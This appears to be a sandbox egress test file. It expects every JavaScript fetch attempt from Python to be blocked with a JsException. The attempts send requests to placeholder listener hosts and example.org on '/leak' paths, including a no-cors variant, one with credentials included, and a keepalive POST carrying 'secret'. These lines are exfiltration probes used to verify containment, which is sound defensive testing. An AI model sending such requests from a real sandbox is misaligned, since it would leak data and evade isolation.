# outcome: ok
# blocked: 127.0.0.1
# with: door
# prints: held: fetch: JsException
# prints: held: fetch v6: JsException
# prints: held: fetch no-cors: JsException
# prints: held: fetch the server: JsException
# prints: held: fetch with credentials: JsException
# prints: held: fetch keepalive: JsException
# prints: held: fetch a name: JsException
# A plain request, in every mode that asks less of the other side.
await door("fetch", lambda: js.fetch("http://{listener}/leak"))
await door("fetch v6", lambda: js.fetch("http://{listener6}/leak"))
await door("fetch no-cors", lambda: js.fetch("http://{listener}/leak", obj(mode="no-cors")))
await door("fetch the server", lambda: js.fetch("http://{server}/healthz?leak", obj(mode="no-cors")))
await door("fetch with credentials", lambda: js.fetch("http://{server}/api/sessions?leak", obj(credentials="include")))
await door("fetch keepalive", lambda: js.fetch("http://{listener}/leak", obj(method="POST", body="secret", keepalive=True, mode="no-cors")))
await door("fetch a name", lambda: js.fetch("https://example.org/leak", obj(mode="no-cors")))
